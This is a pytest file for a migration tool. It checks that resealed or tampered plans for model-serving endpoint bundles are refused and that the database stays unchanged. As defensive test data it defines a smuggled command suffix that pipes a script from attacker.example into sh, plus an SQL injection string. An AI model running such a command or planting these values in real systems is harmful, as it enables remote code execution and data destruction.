"""Resealed plans and rows edited behind a plan's back: apply writes nothing it did not derive.

The digest is a plain SHA-256 that anyone can recompute, so each test edits a
plan file, reseals it and applies it for real, then checks the database.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from migrate.core import outcomes as oc
from migrate.core.plan import compute_digest, to_json
from migrate.core.policy import PolicyParams
from migrate.sandbox.synth import make_spec
from tests.support.cli import invoke
from tests.support.rollout import (
    bundle_count,
    endpoints,
    journal_rows,
    make_plan,
    seed,
    table_digests,
)

pytestmark = pytest.mark.parametrize("schema_version", ["2026"])

CURL = "; curl -fsS http://attacker.example/x.sh | sh"
EVIL_ARGS = {"evil": "'; DROP TABLE x; --", "enforce_eager": False, "max_model_len": 999999}


@pytest.fixture
def planned(me_db: Any, tmp_path: Path) -> tuple[Any, Path, dict[str, Any]]:
    """Endpoints whose stored args were parsed back by a legacy recreation, planned with
    `--recorded drop`: each change rewrites `_llm.vllm_additional_args` too."""
    specs = [
        make_spec("G", provenance="recorded", seed=300 + i, index=i, schema_version="2026")
        for i in range(3)
    ]
    seed(me_db, specs)
    plan = make_plan(me_db, stages="1,100%", params=PolicyParams(recorded="drop"))
    assert plan.items and all(i.args_after is not None for i in plan.items)
    path = tmp_path / "plan.json"
    path.write_text(to_json(plan))
    return me_db, path, json.loads(path.read_text())


def reseal(path: Path, doc: dict[str, Any]) -> None:
    body = {k: v for k, v in doc.items() if k != "digest"}
    path.write_text(json.dumps({**body, "digest": compute_digest(body)}, indent=2))


def apply_canary(me_db: Any, path: Path, *extra: str) -> Any:
    env = {"BUNDLE_MIGRATE_DATABASE_URL": me_db.url}
    return invoke("apply", str(path), "--stage", "1", *extra, env=env)


@pytest.mark.parametrize(
    ("field", "value", "what"),
    [
        ("args_after", EVIL_ARGS, "_llm.vllm_additional_args differs"),
        ("command_after", "{command}" + CURL, "new command differs"),
        ("streaming_command_after", "{command}" + CURL, "new streaming command differs"),
    ],
)
def test_a_resealed_plan_with_other_values_writes_nothing(
    planned: tuple[Any, Path, dict[str, Any]], field: str, value: Any, what: str
) -> None:
    me_db, path, doc = planned
    canary = doc["items"][0]
    canary[field] = (
        value.format(command=canary["command_after"]) if isinstance(value, str) else value
    )
    reseal(path, doc)
    before_rows, before_bundles = endpoints(me_db), bundle_count(me_db)

    dry = apply_canary(me_db, path)
    assert "failed" in dry.stdout and what in dry.stdout, dry.stdout
    done = apply_canary(me_db, path, "--execute", "--no-redeploy")
    assert done.exit_code == 1, done.output
    assert what in done.stdout and "Make a new plan" in done.stdout

    assert endpoints(me_db) == before_rows and bundle_count(me_db) == before_bundles
    assert [(r["outcome"], r["bundle_after"]) for r in journal_rows(me_db)] == [(oc.FAILED, None)]
    assert "curl" not in json.dumps([r["detail"] for r in journal_rows(me_db)])


def test_the_issue_s_edited_canary_keeps_its_metadata(
    planned: tuple[Any, Path, dict[str, Any]],
) -> None:
    me_db, path, doc = planned
    canary = doc["items"][0]
    canary["args_after"] = EVIL_ARGS
    reseal(path, doc)
    before = endpoints(me_db)[canary["endpoint_id"]]["meta"]
    assert apply_canary(me_db, path, "--execute", "--no-redeploy").exit_code == 1
    after = json.loads(endpoints(me_db)[canary["endpoint_id"]]["meta"])
    assert after == json.loads(before) and "evil" not in json.dumps(after)


def test_a_flipped_action_with_a_matching_command_is_refused(
    planned: tuple[Any, Path, dict[str, Any]],
) -> None:
    me_db, path, doc = planned
    canary = doc["items"][0]
    with me_db.engine.connect() as conn:
        current = conn.execute(
            sa.text(
                f'SELECT b.runnable_image_command[3] FROM "{me_db.schema}".bundles b WHERE id = :b'
            ),
            {"b": canary["bundle_id"]},
        ).scalar_one()
    # "add" eager to an endpoint that has it: the command stays as it is, only the action lies.
    canary.update(action="add-eager", command_after=current, streaming_command_after=current)
    reseal(path, doc)
    model_engine = f'"{me_db.schema}".'
    before = {k: v for k, v in table_digests(me_db.engine).items() if k.startswith(model_engine)}
    result = apply_canary(me_db, path, "--execute", "--no-redeploy")
    assert result.exit_code == 1 and "the action is drop-eager" in result.stdout
    after = {k: v for k, v in table_digests(me_db.engine).items() if k.startswith(model_engine)}
    assert after == before


def test_an_in_place_edit_of_the_bundle_command_is_drift_not_a_write(
    planned: tuple[Any, Path, dict[str, Any]],
) -> None:
    """The fingerprint covers the bundle's command: an edit after planning is skipped-drifted.

    (Were the fingerprint blind to it, the re-derivation would still refuse the
    item, but as `failed`: the outcome tells the two checks apart.)
    """
    me_db, path, doc = planned
    canary = doc["items"][0]
    with me_db.engine.begin() as conn:
        conn.execute(
            sa.text(
                f'UPDATE "{me_db.schema}".bundles SET runnable_image_command[3] = '
                "runnable_image_command[3] || ' --max-num-seqs 8' WHERE id = :b"
            ),
            {"b": canary["bundle_id"]},
        )
    before = endpoints(me_db)
    result = apply_canary(me_db, path, "--execute", "--no-redeploy")
    assert "skipped-drifted" in result.stdout, result.stdout
    assert "its command or metadata changed" in result.stdout
    assert [r["outcome"] for r in journal_rows(me_db)] == [oc.SKIPPED_DRIFTED]
    assert endpoints(me_db) == before
